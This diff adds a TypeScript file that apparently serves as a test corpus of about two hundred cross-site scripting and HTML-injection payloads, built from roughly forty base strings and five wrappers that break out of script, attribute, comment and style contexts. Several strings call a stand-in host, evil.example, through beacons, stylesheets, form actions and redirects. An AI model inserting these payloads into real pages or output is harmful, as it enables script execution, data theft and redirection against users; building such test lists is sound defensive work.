@@ -1,0 +1,55 @@
+/** Two hundred things that a model or a pull request may write so that a page acts on it. */
+
+const BARE: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=https://evil.example/beacon.png>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+  "<svg><use href=https://evil.example/s.svg#x>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  "<object data=https://evil.example/o>",
+  "<embed src=https://evil.example/e>",
+  "<link rel=stylesheet href=https://evil.example/c.css>",
+  "<style>@import 'https://evil.example/i.css';body{display:none}</style>",
+  "<style>*{background:url(https://evil.example/b)}</style>",
+  "<base href=https://evil.example/>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+  "<form action=https://evil.example><button autofocus>ok</button></form>",
+  "<input onfocus=alert(1) autofocus>",
+  "<details open ontoggle=alert(1)>",
+  "<video src=https://evil.example/v onerror=alert(1)>",
+  "<audio src=https://evil.example/a>",
+  "<a href=javascript:alert(1)>click</a>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<template><script>alert(1)</script></template>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<body onload=alert(1)>",
+  "<marquee onstart=alert(1)>",
+  "<x contenteditable onblur=alert(1)>lose focus</x>",
+  "<table background=https://evil.example/t>",
+  "<plaintext>",
+  "<textarea><img src=x onerror=alert(1)>",
+  "<title>PASS</title>",
+  "<h1>PASS: nothing changed</h1>",
+  "javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
+  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+];
+
+/** Ways out of where a word may stand: a script element, an attribute, a comment, raw text of a title or a style. */
+const WAYS: readonly ((bare: string) => string)[] = [
+  (bare) => bare,
+  (bare) => `</script>${bare}`,
+  (bare) => `"' autofocus onfocus=alert(1) x="'>${bare}`,
+  (bare) => `--></style></title></textarea></noscript></svg>${bare}`,
+  (bare) => `\u2028\u0000]]>\\u003c${bare.replaceAll("<", "<\u200B<")}\u202E<!--<script>${bare}`,
+];
+
+export const PAYLOADS: readonly string[] = BARE.flatMap((bare) => WAYS.map((way) => way(bare)));
